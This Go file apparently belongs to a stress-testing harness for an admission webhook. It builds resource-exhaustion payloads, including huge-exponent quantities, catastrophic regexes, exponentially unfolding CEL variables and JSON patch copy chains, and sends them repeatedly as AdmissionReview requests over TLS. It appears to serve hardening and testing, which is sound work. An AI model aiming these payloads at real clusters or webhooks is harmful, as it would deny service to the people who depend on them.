package attack

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
)

// group is the API group of the objects that attackers send: one resource for each attack.
const group = "attack.example.com"

// expensive is an attack by evaluation: policies that the bounds allow and that do the most
// expensive work possible with the object that is sent. They match nothing else.
type expensive struct {
	name      string
	variables []string      // name=expression, of each policy
	patches   []string      // each becomes one policy
	content   func() string // returns the fields of the object
	// of is the kind of the object; the zero value means a kind of group. called is its name.
	of     builtin
	called string
}

// builtin is a kind whose fields have types, so that values from patches are converted to these.
type builtin struct{ group, version, kind, resource string }

// host is an object with a container, whose memory is a quantity.
func host(annotation, memory string) func() string {
	return func() string {
		return fmt.Sprintf(`"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"},"annotations":{"mem":%q}},"spec":{"containers":[{"name":"a","image":"b","resources":{"limits":{"memory":%q}}}]}}}`, annotation, memory)
	}
}

// A quantity whose power of ten has a billion digits.
const billion = "1e-1000000000"

const (
	limits = "/spec/template/spec/containers/0/resources"
	memory = `{"limits": {"memory": %s}}`
)

// mutator takes the name of a Job for a quantity, as Gatekeeper's Assign does.
const mutator = `---
apiVersion: mutations.gatekeeper.sh/v1
kind: Assign
metadata: {name: memory}
spec:
  applyTo: [{groups: [batch], versions: [v1], kinds: [Job]}]
  location: 'spec.template.spec.containers[name:a].resources.limits.memory'
  parameters: {assign: {fromMetadata: {field: name}}}
`

// where returns an expression for a patch that is made if expr is true.
func where(expr string) string {
	return expr + ` ? [JSONPatch{op: "add", path: "/touched", value: true}] : []`
}

func text(field, part string, size int) func() string {
	return func() string { return `"` + field + `":"` + strings.Repeat(part, size/len(part)) + `"` }
}

func numbers(n int) func() string {
	return func() string {
		var b strings.Builder
		b.WriteString(`"list":[0`)
		for i := range n {
			fmt.Fprintf(&b, ",%d", i*7919%n)
		}
		return b.String() + "]"
	}
}

func nothing() string { return `"n":1` }

// levels returns the variables NAME0 to NAMEn, of which each uses the one before.
func levels(name, first string, n int, of func(before string) string) []string {
	out := []string{name + "0=" + first}
	for i := range n {
		out = append(out, fmt.Sprintf("%s%d=%s", name, i+1, of(fmt.Sprintf("variables.%s%d", name, i))))
	}
	return out
}

func tenTimes(before string) string { return "[" + strings.Repeat(before+", ", 9) + before + "]" }

func twice(before string) string { return before + " + " + before }

var unfolding = slices.Concat(levels("v", "[object.n, object.n]", 7, tenTimes), levels("w", "[object.n, object.n]", 7, tenTimes))

func addAt(path, value string) string {
	return fmt.Sprintf(`[JSONPatch{op: "add", path: %q, value: %s}]`, path, value)
}

func many(n int, one func(i int) string) (out []string) {
	for i := range n {
		out = append(out, one(i))
	}
	return out
}

var expensives = []expensive{
	{name: "a quantity with a huge exponent", patches: []string{where(`quantity(object.text).isGreaterThan(quantity("1"))`)},
		content: func() string { return `"text":"1e1000000000"` }},
	{name: "quantities with large exponents", patches: []string{where(`lists.range(20000).all(x, quantity("1e1000").isGreaterThan(quantity("1")))`)}, content: nothing},
	{name: "a quantity of 1 MiB of digits", patches: []string{where(`quantity(object.text).isGreaterThan(quantity("1"))`)}, content: text("text", "9", mib)},
	{name: "a regular expression on 1 MiB", patches: slices.Repeat([]string{where(`!object.text.matches("(a+a+){2}b")`)}, 10), content: text("text", "a", mib)},
	{name: "all matches in 1 MiB", patches: []string{where(`object.text.findAll("(a.*b)|a").size() > 0`)}, content: text("text", "a", mib)},
	{name: "nested loops", patches: slices.Repeat([]string{where(`lists.range(500).all(x, lists.range(500).all(y, x + y >= object.n - 1))`)}, 10), content: nothing},
	{name: "nested loops that read nothing", patches: many(10, func(i int) string {
		return where(fmt.Sprintf(`lists.range(500).all(x, lists.range(500).all(y, x + y >= -%d))`, i))
	}), content: nothing},
	{name: "unfolding values compared", variables: unfolding, patches: []string{where("variables.v7 == variables.w7")}, content: nothing},
	{name: "unfolding values in sets", variables: unfolding, patches: []string{where("sets.contains(variables.v7, variables.w7)")}, content: nothing},
	{name: "unfolding values made distinct", variables: unfolding, patches: []string{where("(variables.v7 + variables.w7).distinct().size() > 0")}, content: nothing},
	{name: "an unfolding result", variables: unfolding, patches: []string{addAt("/touched", "variables.v7")}, content: nothing},
	{name: "a text that doubles", variables: levels("t", "object.text", 12, twice), patches: []string{addAt("/touched", "variables.t12")}, content: text("text", "a", mib/4)},
	{name: "replace", patches: []string{where(`object.text.replace("a", object.text, 50).size() > 0`)}, content: text("text", "a", mib)},
	{name: "join", patches: []string{where(`lists.range(25).map(x, object.text).join().size() > 0`)}, content: text("text", "a", mib)},
	{name: "format", patches: []string{where(`lists.range(60).all(x, "%s".format([object.list]).size() > 0)`)}, content: numbers(40_000)},
	{name: "sort", patches: slices.Repeat([]string{where(`object.list.map(x, int(x)).sort().size() > 0`)}, 5), content: numbers(60_000)},
	{name: "sets", patches: []string{where(`!sets.contains(object.list, object.list.map(x, [x]))`)}, content: numbers(3_000)},
	{name: "lists of memory", patches: slices.Repeat([]string{where(`lists.range(900000 - object.n).size() > 0`)}, 10), content: nothing},
	{name: "the whole object, written and compared", patches: []string{`object.list.map(x, JSONPatch{op: "add", path: "/touched", value: object.list})`}, content: numbers(20_000)},
	{name: "30 policies that add 1 MiB each", patches: many(30, func(i int) string { return addAt(fmt.Sprintf("/added%d", i), "object.text") }), content: text("text", "a", mib)},
	{name: "30 policies that map 3 MiB", patches: slices.Repeat([]string{where(`object.list.map(x, [x]).size() > 0`)}, 30), content: numbers(400_000)},
	{name: "a quantity from an annotation", of: builtin{"apps", "v1", "Deployment", "deployments"}, content: host(billion, "1Gi"),
		patches: []string{addAt(limits, fmt.Sprintf(memory, `object.spec.template.metadata.annotations["mem"]`))}},
	{name: "a literal quantity", of: builtin{"apps", "v1", "StatefulSet", "statefulsets"}, content: host("", "1Gi"),
		patches: []string{addAt(limits, fmt.Sprintf(memory, `"`+billion+`"`))}},
	{name: "a quantity of the object", of: builtin{"apps", "v1", "DaemonSet", "daemonsets"}, content: host("", billion),
		patches: []string{addAt("/spec/template/spec/containers/0/imagePullPolicy", `"Always"`)}},
	{name: "a name as a quantity", of: builtin{"batch", "v1", "Job", "jobs"}, called: "1e-999999999", content: host("", "1Gi")},
	{name: "copies of copies", patches: []string{
		`[JSONPatch{op: "add", path: "/copies", value: [object.text]}] + lists.range(24).map(x, JSONPatch{op: "copy", from: "/copies", path: "/copies/0"})`,
	}, content: text("text", "a", 1<<10)},
}

// resource returns the resource of the objects of attack i.
func resource(i int) string { return fmt.Sprintf("attacks%d", i) }

// written returns the kind of the objects of attack i.
func written(i int) builtin {
	if of := expensives[i].of; of != (builtin{}) {
		return of
	}
	return builtin{group, "v1", "Attack", resource(i)}
}

// Policies returns the policies, as YAML, that the attacks by evaluation need.
func Policies() ([]byte, error) {
	var b bytes.Buffer
	for i, e := range expensives {
		var variables []any
		for _, v := range e.variables {
			name, expr, _ := strings.Cut(v, "=")
			variables = append(variables, map[string]any{"name": name, "expression": expr})
		}
		for j, patch := range e.patches {
			name := fmt.Sprintf("%s-%d", resource(i), j)
			for kind, spec := range map[string]any{
				"": map[string]any{
					"failurePolicy": "Fail", "reinvocationPolicy": "Never", "variables": variables,
					"matchConstraints": map[string]any{"resourceRules": []any{map[string]any{
						"apiGroups": []string{written(i).group}, "apiVersions": []string{"*"}, "resources": []string{written(i).resource}, "operations": []string{"*"},
					}}},
					"mutations": []any{map[string]any{"patchType": "JSONPatch", "jsonPatch": map[string]any{"expression": patch}}},
				},
				"Binding": map[string]any{"policyName": name},
			} {
				data, err := json.Marshal(map[string]any{
					"apiVersion": "admissionregistration.mapd.dev/v1", "kind": "MutatingAdmissionPolicy" + kind, "metadata": map[string]any{"name": name}, "spec": spec,
				})
				if err != nil {
					return nil, err
				}
				fmt.Fprintf(&b, "---\n%s\n", data)
			}
		}
	}
	b.WriteString(mutator)
	return b.Bytes(), nil
}

// Evaluations are the attacks that need [Policies].
var Evaluations = evaluations()

func evaluations() (out []Attack) {
	for i, e := range expensives {
		out = append(out, Attack{e.name, 16, asks(func() []byte {
			of, name := written(i), cmp.Or(e.called, "a")
			object := fmt.Sprintf(`{"apiVersion":"%s/%s","kind":%q,"metadata":{"name":%q,"namespace":"default"},%s}`, of.group, of.version, of.kind, name, e.content())
			return fmt.Appendf(nil, `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"1","kind":{"group":%q,"version":%q,"kind":%q},`+
				`"resource":{"group":%q,"version":%q,"resource":%q},"name":%q,"namespace":"default","operation":"CREATE","userInfo":{"username":"a"},"object":%s}}`,
				of.group, of.version, of.kind, of.group, of.version, of.resource, name, object)
		})})
	}
	return out
}

// asks returns an attack that sends the same body on one connection, again as soon as
// it is answered.
func asks(body func() []byte) func(context.Context, Target, *Outcome) {
	made := sync.OnceValue(body)
	return func(ctx context.Context, t Target, o *Outcome) {
		conn := dialTLS(ctx, t, o)
		if conn == nil {
			return
		}
		defer conn.Close()
		b := made()
		answers := bufio.NewReader(conn)
		for {
			sent := make(chan struct{})
			go func() {
				defer close(sent)
				// The server may refuse a body before its end; its answer says so.
				_, _ = io.WriteString(conn, header(t, fmt.Sprintf("Content-Length: %d\r\n\r\n", len(b))))
				_, _ = conn.Write(b)
			}()
			resp, err := http.ReadResponse(answers, nil)
			if err != nil {
				o.ended()
				return
			}
			var began bytes.Buffer
			_, err = io.Copy(&began, io.LimitReader(resp.Body, 8<<10))
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
			}
			resp.Body.Close()
			if err != nil {
				o.ended()
				return
			}
			o.answered(resp.StatusCode)
			if resp.StatusCode == http.StatusOK {
				o.decided(began.String())
			}
			if resp.Close {
				return
			}
			<-sent
		}
	}
}
